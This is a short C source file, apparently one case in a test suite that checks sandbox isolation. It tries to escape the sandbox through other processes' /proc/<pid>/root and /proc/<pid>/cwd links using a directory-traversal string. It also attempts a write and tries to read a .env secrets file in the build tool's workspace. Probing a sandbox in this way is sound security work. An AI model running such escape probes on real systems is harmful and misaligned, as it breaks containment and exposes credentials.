// Class 1: /proc/<pid>/root and /proc/<pid>/cwd of OTHER processes: the sandbox's supervisor,
// ocibuild, the harness, the victims, pid 1. Each is the host's / (or the workspace) unless the
// guest's /proc hides them.
#include "escape_ops.h"

#define UP16 "/../../../../../../../../../../../../../../../.."

int main(void) {
  p_start();
  T();
  pid_t t[64];
  int n = read_targets(t, 64);
  p_line("ATTEMPT", "targets: %d processes (ancestors, victims, ocibuild)", n);
  for (int i = 0; i < n; ++i) {
    char* label = p_strf("proc/%d/root", (int)t[i]);
    escape_reads(label, p_strf("/proc/%d/root", (int)t[i]));
    if (i == 0) escape_writes(label, p_strf("/proc/%d/root", (int)t[i]));
    escape_reads(p_strf("proc/%d/cwd/..", (int)t[i]), p_strf("/proc/%d/cwd" UP16, (int)t[i]));
    // ocibuild's cwd is the workspace in the harness (as in GitHub Actions).
    try_read(p_strf("proc/%d/cwd/.env", (int)t[i]), p_strf("/proc/%d/cwd/.env", (int)t[i]));
  }
  escape_reads("proc/1/root", "/proc/1/root");
  p_end();
}
